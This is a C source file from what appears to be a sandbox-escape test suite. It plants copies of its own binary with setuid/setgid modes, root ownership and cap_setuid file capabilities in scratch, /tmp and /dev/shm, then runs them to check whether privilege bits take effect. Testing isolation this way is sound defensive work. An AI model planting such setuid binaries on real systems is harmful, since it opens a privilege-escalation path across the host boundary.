/* suid_plant: see attack.toml for the technique. Defanged: bounded loops, reads and harmless markers only. */
#define _GNU_SOURCE
#pragma GCC diagnostic ignored "-Wformat-truncation" /* truncated paths are fine here */
#include <stdio.h>
#include <stdlib.h>
#include <stdarg.h>
#include <string.h>
#include <unistd.h>
#include <fcntl.h>
#include <errno.h>
#include <dirent.h>
#include <sys/stat.h>
#include <sys/types.h>
#include <sys/syscall.h>

/* ---- shared preamble (copied into each attack: one source file per attack) ---- */
static const char *NONCE = "no-nonce";
static long out_budget = 40000; /* file contents printed, at most */

/* stdout goes through a byte cap (56 KB, reports up to 64 KB) so the run never hits the 64K output limit */
static long out_total;
static ssize_t cap_write(void *c, const char *buf, size_t n)
{
    (void)c;
    int is_report = memmem(buf, n, "GAUNTLET-REPORT", 15) != NULL;
    if (out_total + (long)n <= 56000 || (is_report && out_total + (long)n <= 64000)) {
        size_t off = 0;
        while (off < n) { ssize_t w = write(1, buf + off, n - off); if (w <= 0) break; off += w; }
        out_total += n;
    }
    return n;
}
__attribute__((constructor)) static void cap_stdout(void)
{
    cookie_io_functions_t io = {0, cap_write, 0, 0};
    FILE *f = fopencookie(NULL, "w", io);
    if (f) { setvbuf(f, NULL, _IOLBF, 0); stdout = f; }
}

__attribute__((unused)) static void report(int escaped, const char *fmt, ...)
{
    va_list ap;
    fflush(stdout);
    printf("GAUNTLET-REPORT %s %s ", NONCE, escaped ? "escaped" : "denied");
    va_start(ap, fmt);
    vprintf(fmt, ap);
    va_end(ap);
    printf("\n");
    fflush(stdout);
}

/* Print up to max bytes of buf, non-printables as '.', within the global output budget. */
__attribute__((unused)) static void show(const char *buf, long n, long max)
{
    if (n > max) n = max;
    if (n > out_budget) n = out_budget;
    if (n < 0) n = 0;
    out_budget -= n;
    for (long i = 0; i < n; i++) {
        unsigned char c = (unsigned char)buf[i];
        putchar((c >= 32 && c < 127) || c == '\n' ? c : '.');
    }
    putchar('\n');
    fflush(stdout);
}

/* Open and read a path; print what came back. Returns bytes read, or -errno. */
__attribute__((unused)) static long dump_path_at(int dirfd, const char *path, long max)
{
    int fd = openat(dirfd, path, O_RDONLY | O_NONBLOCK | O_NOCTTY | O_CLOEXEC);
    if (fd < 0) {
        int e = errno;
        printf("open %s: %s\n", path, strerror(e));
        return -e;
    }
    char buf[4096];
    long n = read(fd, buf, sizeof buf);
    int e = errno;
    close(fd);
    if (n < 0) {
        printf("read %s: %s\n", path, strerror(e));
        return -e;
    }
    printf("READ %s (%ld bytes): ", path, n);
    show(buf, n, max);
    return n;
}
__attribute__((unused)) static long dump_path(const char *path, long max) { return dump_path_at(AT_FDCWD, path, max); }
/* ---- end of preamble ---- */

/* F24: plant setuid/setgid binaries and file capabilities in scratch (a host directory) and the
 * private tmpfs dirs: copy of our own binary chmod'ed 4755/6755/2755, a setgid directory, chown to 0,
 * security.capability xattr (cap_setuid+ep); then exec the planted copy in the sandbox to see whether
 * euid changes (nosuid, no_new_privs). The host sees any setuid/setgid/caps file left in scratch
 * (hostfs over {scratch}): a host user running it would become the sandbox's host uid. */
#include <sys/xattr.h>
#include <sys/wait.h>
#include <linux/capability.h>
static int esc;
int main(int argc, char **argv)
{
    if (argc > 1 && !strcmp(argv[1], "--probe")) { printf("planted child: uid %d euid %d gid %d egid %d\n", getuid(), geteuid(), getgid(), getegid()); if (geteuid() != getuid()) report(1, "setuid-took-effect"); return 0; }
    const char *scratch = argc > 1 ? argv[1] : "/tmp";
    if (argc > 2) NONCE = argv[2];
    int in = open("/proc/self/exe", O_RDONLY);
    static char buf[1 << 20]; long len = in >= 0 ? read(in, buf, sizeof buf) : -1; if (in >= 0) close(in);
    const char *dirs[] = {scratch, "/tmp", "/dev/shm"};
    mode_t modes[] = {04755, 06755, 02755, 04777};
    char p[600];
    for (int d = 0; d < 3; d++) {
        for (int m = 0; m < 4; m++) {
            snprintf(p, sizeof p, "%s/suid-%o", dirs[d], modes[m]);
            int fd = open(p, O_CREAT | O_WRONLY | O_TRUNC, 0755);
            if (fd < 0) { printf("create %s: %s\n", p, strerror(errno)); continue; }
            if (len > 0) (void)!write(fd, buf, len);
            close(fd);
            if (chown(p, 0, 0) != 0) printf("chown 0:0 %s: %s\n", p, strerror(errno));
            if (chmod(p, modes[m]) != 0) { printf("chmod %o %s: %s\n", modes[m], p, strerror(errno)); continue; }
            struct stat st; stat(p, &st);
            printf("%s mode %o uid %d gid %d\n", p, st.st_mode & 07777, st.st_uid, st.st_gid);
            if (st.st_mode & (S_ISUID | S_ISGID)) { esc++; if (d == 0) printf("SETID FILE LEFT IN SCRATCH (host-visible): %s\n", p); }
        }
        /* file capability: cap_setuid,cap_setgid+ep (VFS cap v2) */
        snprintf(p, sizeof p, "%s/suid-4755", dirs[d]);
        struct vfs_cap_data cd = {.magic_etc = VFS_CAP_REVISION_2 | VFS_CAP_FLAGS_EFFECTIVE};
        cd.data[0].permitted = (1u << CAP_SETUID) | (1u << CAP_SETGID);
        if (setxattr(p, "security.capability", &cd, sizeof cd, 0) == 0) { esc++; printf("SET file caps on %s\n", p); report(1, "file-caps %s", p); }
        else printf("setxattr security.capability %s: %s\n", p, strerror(errno));
        /* a setgid directory: files made in it later inherit its group */
        snprintf(p, sizeof p, "%s/sgid-dir", dirs[d]);
        mkdir(p, 0755);
        if (chmod(p, 02777) == 0) { struct stat st; stat(p, &st); if (st.st_mode & S_ISGID) { printf("setgid dir %s\n", p); if (d == 0) esc++; } }
    }
    /* run the planted scratch copy: does the bit take effect inside? */
    snprintf(p, sizeof p, "%s/suid-4755", scratch);
    fflush(stdout);
    pid_t c = fork();
    if (c == 0) { execl(p, p, "--probe", (char *)0); printf("exec %s: %s\n", p, strerror(errno)); fflush(stdout); _exit(1); }
    if (c > 0) waitpid(c, 0, 0);
    snprintf(p, sizeof p, "/tmp/suid-4755");
    c = fork();
    if (c == 0) { execl(p, p, "--probe", (char *)0); printf("exec %s: %s\n", p, strerror(errno)); fflush(stdout); _exit(1); }
    if (c > 0) waitpid(c, 0, 0);
    report(0, "setuid-took-effect");
    return 0;
}
